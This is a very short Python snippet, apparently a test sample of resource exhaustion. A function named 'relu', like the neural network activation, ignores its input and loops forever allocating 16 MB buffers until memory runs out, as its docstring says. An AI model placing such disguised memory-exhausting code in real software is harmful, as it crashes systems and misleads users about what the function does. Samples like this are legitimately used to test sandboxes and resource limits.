"""A call that takes all the memory that it gets."""


def relu(x):
    kept = []
    while True:
        kept.append(bytearray(1 << 24))
